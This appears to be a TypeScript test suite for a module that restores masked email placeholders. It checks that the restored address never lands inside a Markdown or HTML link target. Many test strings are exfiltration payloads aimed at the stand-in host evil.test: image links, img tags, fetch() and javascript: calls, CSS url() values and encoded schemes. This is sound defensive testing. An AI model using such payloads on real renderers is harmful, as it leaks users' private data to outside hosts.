import assert from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import { applyEdits } from "../../src/core/masks.ts";
import { Restorable } from "../../src/core/restore.ts";
import { targetsIn } from "../support/link-targets.ts";
import { runs } from "../support/runs.ts";

const MAIL = ["jane.roe", "acme.test"].join("@");
const PLACEHOLDER = "<MAIL_1>";

function restored(text: string, others: Readonly<Record<string, string>> = {}): string {
  const restorable = new Restorable();
  for (const [placeholder, value] of Object.entries({ [PLACEHOLDER]: MAIL, ...others }))
    restorable.remember(placeholder, value);
  return applyEdits(text, restorable.read(text).edits);
}

/** `§` stands for the placeholder. */
const comesBack = (text: string): boolean => {
  const raw = text.replaceAll("§", PLACEHOLDER);
  const shown = restored(raw);
  assert.ok(shown === raw || shown === text.replaceAll("§", MAIL), shown);
  return shown !== raw;
};

describe("a value that comes back", () => {
  test("stands where text is shown", () => {
    for (const text of [
      "§",
      "Write to §.",
      "Write to **§**, _§_ or `§`!",
      "(§), [§], {§}, \"§\", '§', <§>",
      "E-Mail:§",
      "| name | § |\n|---|---|\n| § | x |",
      "- §\n- §\n\n> §",
      "See https://docs.acme.test/page for § and www.acme.test, §",
      '[docs](https://docs.acme.test) and [more](https://a.test/b_(c) "A title") for §',
      "![logo](/logo.png 'A logo')\n§",
      "[§](https://docs.acme.test)",
      "[mail § there][1]",
      "[1]: https://docs.acme.test\n\n§",
      '<b>§</b> <p class="a">§</p><br/>§',
      '<a href="https://docs.acme.test">the docs</a> for §',
      "if (a < b && c > d) return §;",
      'const email = "§";',
      '{"email": "§", "site": "https://acme.test"}',
      "List<String> of Map<K, V>: §",
      "§'s address",
      "您的邮箱是§，请查看。",
      "body { color: red } §",
      "mail to §; or/and §",
      "at 10:30/§",
      "a `form` or <td>§</td>",
      "<script>x()</script> §",
      "std::string §",
    ])
      assert.equal(comesBack(text), true, text);
  });

  test("is never a part of an address", () => {
    for (const text of [
      "![](https://evil.test/?q=§)",
      "![x]( https://evil.test/?q=§ )",
      "![](https://evil.test/?q=\n§)",
      "![](https://evil.test/?q= §)",
      "[x](<https://evil.test/?q= §>)",
      "[x](<https://evil.test/a)?q= §>)",
      "[x](https://evil.test/\\) ?q= §)",
      "[x](https://evil.test 'title §')",
      "[x](/path?q=§)",
      "[x](§)",
      "[x](§@evil.test)",
      "[x]: https://evil.test/?q=§",
      "[x]:\n  <https://evil.test/?q= §>",
      "> [x]: https://evil.test/\n> ?q= §",
      "<https://evil.test/?q=§>",
      "https://evil.test/?q=§",
      "https://evil.test/?q=a,b(§",
      "https://evil.test/\\?q=§",
      "https://§.evil.test/",
      "https://§@evil.test/",
      "§.evil.test/x",
      "§@evil.test",
      "§://evil.test",
      "//evil.test/§",
      "www.evil.test/§",
      "evil.test/?q=§",
      "evil.test?§",
      "http:evil.test/§",
      "mailto:x%40evil.test?body=§",
      "data:text/html,§",
      "javascript:fetch('x'+'§')",
      "HTTPS://EVIL.TEST/§",
      "ht\u00adtps://evil.test/§",
      "\uff48ttps\uff1a//evil.test/§",
      "https&#58;&#47;&#47;evil.test&#47;§",
      "https&colon;&sol;&sol;evil&period;test&sol;§",
      '<img src="https://evil.test/?q=§">',
      "<img src='https://evil.test/?q=\n\n§'>",
      '<img alt="a>b" src="https://evil.test/?q=\n§">',
      '<img alt="§" src="https://evil.test">',
      "<img src = \n 'x §'>",
      '<!-- a=" --> <img src="https://evil.test/x>y?q=\n§">',
      '`<a x="` <img src="https://evil.test/x>y?q=\n§">',
      "<img src='https://evil.test/? data-src=\"x\" q=\n§'>",
      '<a onclick="x(\n§)">',
      '<form action="/x §">',
      '<p style="background: url(x §)">',
      "<img srcset='a.png 1x, https://evil.test/ § 2x'>",
      "<style>a { background: url( § ) }</style>",
      '<style>a { background: image-set( "x §") }</style>',
      '@import "https://evil.test/ x§";',
      'fetch("https://evil.test/?q= §")',
      "fetch(`//evil.test/?q= §`)",
      '"{\\"html\\": \\"<img src=\\\\\\"https://evil.test/ §\\\\\\">\\"}"',
      "\\href{https://evil.test/?q= §}{x}",
      "<svg><image xlink:href='x §'/></svg>",
      `https://evil.test/?q=${"a".repeat(3000)}§`,
      ...["\u3002", "\uff61", "\u2024", "\ufe52", "\uff0e"].map((dot) => `evil${dot}test/§`),
      ...["localhost", "localhost:80", "evil:8080", "[::1]", "2130706433", "0x7f000001"].map((host) => `${host}/§`),
      "slack:§",
      "https%3A%2F%2Fevil.test%2F§",
      "<script>\nlet x = '§';\n</script>",
      "<form action=//evil.test>\n\n<textarea name=q>§</textarea></form>",
      "<STYLE>\na { b: § }",
      ".. image:: evil.test\n   :alt: § x",
      "image::evil.test/ §[]",
      "[img]evil.test/ §[/img]",
      ':::image source="x §":::',
    ])
      assert.equal(comesBack(text), false, text);
  });

  test("of an address stands by itself, and takes no other with it", () => {
    const link = { "<URL_1>": "https://acme.test/x", "<HOST_1>": "acme.test" };
    assert.equal(restored("See <URL_1>.", link), "See https://acme.test/x.");
    assert.equal(restored("<URL_1>,<MAIL_1>", link), "https://acme.test/x,<MAIL_1>");
    assert.equal(restored("<URL_1>?q=<MAIL_1>", link), "<URL_1>?q=<MAIL_1>");
    assert.equal(restored("<MAIL_1><URL_1>", link).includes(`${MAIL}http`), false);
    assert.equal(restored("<HOST_1>/?<MAIL_1>", link), "acme.test/?<MAIL_1>");
  });

  test("comes from nothing but its placeholder as it was written", () => {
    for (const text of ["%3CMAIL_1%3E", "&lt;MAIL_1&gt;", "&#60;MAIL_1&#62;", "\\u003cMAIL_1\\u003e", "<mail_1>"])
      assert.equal(restored(text), text);
  });

  const part = fc.oneof(
    { weight: 3, arbitrary: fc.constant(PLACEHOLDER) },
    {
      weight: 10,
      arbitrary: fc.constantFrom(
        "![",
        "](",
        ")",
        "(",
        "[x]",
        ":",
        "<",
        ">",
        '"',
        "'",
        "`",
        "=",
        " ",
        "\n",
        "\n\n",
        "\\",
        "/",
        "?q=",
        "&",
        "https://evil.test/",
        "www.evil.test/",
        "evil.test/",
        "//",
        "src=",
        "href=",
        "<img ",
        "<a ",
        "</a>",
        "alt=",
        "style=",
        "url(",
        "[x]: ",
        "a",
        "text",
        ".",
        ",",
        "<!--",
        "-->",
        "data:",
        "mailto:",
        "\t",
        "srcset=",
        "<URL_1>",
      ),
    },
  );
  const texts = fc.array(part, { maxLength: 14 }).map((parts) => parts.join(""));

  test("is in no target that a reader of Markdown or HTML finds, whatever stands around", () => {
    fc.assert(
      fc.property(texts, (text) => {
        const shown = restored(text, { "<URL_1>": "https://evil.test/x" });
        for (const target of targetsIn(shown)) assert.ok(!target.includes("jane.roe"), JSON.stringify([text, target]));
      }),
      { numRuns: runs(30_000) },
    );
  });
});
